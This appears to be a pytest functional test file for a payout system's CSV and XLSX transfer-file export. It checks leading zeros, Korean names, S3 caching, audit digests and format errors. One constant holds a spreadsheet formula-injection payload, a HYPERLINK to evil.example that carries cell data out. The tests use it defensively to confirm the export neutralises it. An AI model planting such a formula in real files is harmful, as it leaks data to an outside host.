"""The transfer file in its two forms (DESIGN §4 `GET .../export?format=`): the CSV for
systems and the spreadsheet for people, read back as Excel and a bank's system would read
them: bank codes with leading zeros, 16-digit account numbers, Korean holders, and a holder
kept from before the input rules that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import boto3
import openpyxl
import pytest

from chalicelib import queues
from tests.contract import check_raw_answer, resolved
from tests.functional.conftest import REGION, Api
from tests.functional.test_payouts_api import _approve, _credit, _drain, _register, _start

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORT = "/v1/admin/payout-runs/payout-2026-11/export"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

# who, account, points: leading-zero codes (KB 004, NH 011, Shinhan 088), 10 to 16 digits
PAID = (
    ("t1", {"bank": "KB", "account_number": "0012-3456-7890-1234", "holder": "김민지"}, 2000),
    ("t2", {"bank": "NH", "account_number": "302-0123-4567-81", "holder": "Lee Ann-Marie"}, 31000),
    ("t3", {"bank": "088", "account_number": "0100000001", "holder": "박 서연"}, 2500),
    ("t4", {"bank": "Shinhan", "account_number": "9999999999999999", "holder": "홍길동"}, 4000),
)


def _paid_run(api: Api) -> None:
    for who, account, points in PAID:
        _register(api, who, account)
        _credit(who, points, f"seed-{who}")
    # a holder stored before holders were judged (a formula an attacker typed), as kept
    from chalicelib.adapters.dynamodb_models import PayoutAccount

    PayoutAccount("t4").update(actions=[PayoutAccount.holder.set(HOSTILE)])
    assert _start(api).status == 201
    _drain(queues.PAYOUT_CHUNKS)
    _approve(api)


def _get(api: Api, path: str, accept: str | None = None) -> tuple[int, dict[str, Any], bytes]:
    from infra.local.api_gateway import request

    headers = {"authorization": f"Bearer {api.token('fin-1', True)}"}
    if accept is not None:
        headers["accept"] = accept
    status, out_headers, body = request(api._gateway, "GET", path, headers, None)
    check_raw_answer("GET", path, status, dict(out_headers), body)
    return status, dict(out_headers), body


def _csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_csv_and_the_spreadsheet_hold_the_same_rows_as_text_where_it_matters(
    api: Api, prebuilt: Any
) -> None:
    # GIVEN a run that paid four citizens
    prebuilt("a paid run", lambda: _paid_run(api))

    # WHEN finance downloads both forms
    csv_status, csv_headers, csv_body = _get(api, EXPORT)
    xlsx_status, xlsx_headers, xlsx_body = _get(api, f"{EXPORT}?format=xlsx", accept=XLSX)

    # THEN the CSV keeps every digit and leading zero
    assert csv_status == 200 and csv_headers["Content-Type"].startswith("text/csv")
    rows = _csv_rows(csv_body)
    header, data = rows[0], rows[1:]
    assert header == ["citizen_id", "bank_code", "account_number", "holder", "amount", "memo"]
    by_id = {r[0]: r for r in data}
    assert by_id["t1"][1:5] == ["004", "0012345678901234", "김민지", "2000"]
    assert by_id["t2"][1:5] == ["011", "3020123456781", "Lee Ann-Marie", "31000"]
    assert by_id["t3"][1:5] == ["088", "0100000001", "박 서연", "2500"]
    assert by_id["t4"][1:3] == ["088", "9999999999999999"]
    # AND the kept hostile holder is defused: a spreadsheet shows it as text, never runs it
    assert by_id["t4"][3] == "'" + HOSTILE
    assert not any(cell[:1] in "=+-@\t\r" for row in data for cell in row)

    # AND the spreadsheet is the same rows in the same order
    assert xlsx_status == 200 and xlsx_headers["Content-Type"] == XLSX
    assert xlsx_headers["Content-Disposition"] == 'attachment; filename="payout-2026-11.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_body)).active
    assert sheet is not None
    cells = [list(row) for row in sheet.iter_rows()]
    assert [c.value for c in cells[0]] == header
    assert [c.value for c in cells[0] if c.font.b] == header  # a bold header row
    assert [r[0].value for r in cells[1:]] == [r[0] for r in data]
    for row, expected in zip(cells[1:], data, strict=True):
        citizen, bank, number, holder, amount, memo = row
        # codes, numbers and names are text cells in text format: Excel keeps them as typed
        for cell in (citizen, bank, number, holder, memo):
            assert cell.data_type == "s" and cell.number_format == "@"
        assert [bank.value, number.value, memo.value] == [expected[1], expected[2], expected[5]]
        # amounts are numbers, so the sheet sums them
        assert amount.data_type == "n" and amount.value == int(expected[4])
    holders = {r[0].value: r[3].value for r in cells[1:]}
    assert holders["t4"] == HOSTILE  # text as given: a text cell is never a formula
    assert holders["t1"] == "김민지"
    # AND the columns are wide enough for what they hold
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["C"] >= 16 and widths["D"] >= len(HOSTILE) * 0.8


def test_each_form_is_kept_once_and_a_repeat_serves_the_same_bytes(api: Api, prebuilt: Any) -> None:
    prebuilt("a paid run", lambda: _paid_run(api))
    first_xlsx = _get(api, f"{EXPORT}?format=xlsx", accept=XLSX)[2]
    first_csv = _get(api, f"{EXPORT}?format=csv")[2]
    assert _get(api, f"{EXPORT}?format=xlsx", accept=XLSX)[2] == first_xlsx
    assert _get(api, EXPORT)[2] == first_csv
    s3 = boto3.client("s3", region_name=REGION)
    kept = {
        o["Key"]: o["Size"] for o in s3.list_objects_v2(Bucket="gimhae-dev-exports")["Contents"]
    }
    assert kept == {
        "payout-runs/payout-2026-11/transfers.csv": len(first_csv),
        "payout-runs/payout-2026-11/transfers.xlsx": len(first_xlsx),
    }
    head = s3.head_object(
        Bucket="gimhae-dev-exports", Key="payout-runs/payout-2026-11/transfers.xlsx"
    )
    assert head["ContentType"] == XLSX
    # AND every export is recorded with the file's digest
    import hashlib

    log = api.call(
        "GET", "/v1/admin/actions?target=run:payout-2026-11", as_user="boss", admin=True
    ).body["actions"]
    digests = {a["detail"]["sha256"] for a in log if a["action"] == "payout_run.export"}
    assert digests == {hashlib.sha256(first_csv).hexdigest(),
                       hashlib.sha256(first_xlsx).hexdigest()}  # fmt: skip
    run = api.call("GET", "/v1/admin/payout-runs/payout-2026-11", as_user="b", admin=True).body
    assert run["exports"] == {
        "csv": {"sha256": hashlib.sha256(first_csv).hexdigest()},
        "xlsx": {"sha256": hashlib.sha256(first_xlsx).hexdigest()},
    }


@pytest.mark.parametrize(
    "query",
    ["format=XLSX", "format=xls", "format=", "format=xlsx%00", "format=%20xlsx",
     "format=csv&format=xlsx", "format=" + "x" * 100],
)  # fmt: skip
def test_an_unknown_format_is_a_400(api: Api, prebuilt: Any, query: str) -> None:
    prebuilt("a paid run", lambda: _paid_run(api))
    status, headers, body = _get(api, f"{EXPORT}?{query}", accept=XLSX)
    assert status == 400, body
    assert headers["Content-Type"] == "application/json"
    assert b'"invalid_query"' in body


@pytest.mark.parametrize("accept", [None, "*/*", "text/html, " + XLSX, "application/json"])
def test_the_spreadsheet_needs_its_type_first_in_accept_as_api_gateway_does(
    api: Api, prebuilt: Any, accept: str | None
) -> None:
    prebuilt("a paid run", lambda: _paid_run(api))
    status, headers, body = _get(api, f"{EXPORT}?format=xlsx", accept=accept)
    assert status == 406, body
    assert headers["Content-Type"] == "application/json"
    assert b'"not_acceptable"' in body


def test_the_api_declares_the_format_and_both_media_types(api: Api) -> None:
    from app import app

    assert XLSX in app.api.binary_types
    from chalicelib.domain.transfer_files import XLSX_CONTENT_TYPE

    assert XLSX_CONTENT_TYPE == XLSX
    doc = api.call("GET", "/v1/openapi.json").body
    export = doc["paths"]["/v1/admin/payout-runs/{run_id}/export"]["get"]
    (fmt,) = [p for p in export["parameters"] if p["name"] == "format"]
    assert fmt["schema"] == {"$ref": "#/components/schemas/ExportFormat", "default": "csv"}
    assert resolved(fmt["schema"], doc) == {
        "type": "string",
        "enum": ["csv", "xlsx"],
        "default": "csv",
    }
    assert set(export["responses"]["200"]["content"]) == {"text/csv", XLSX}
    assert "406" in export["responses"]
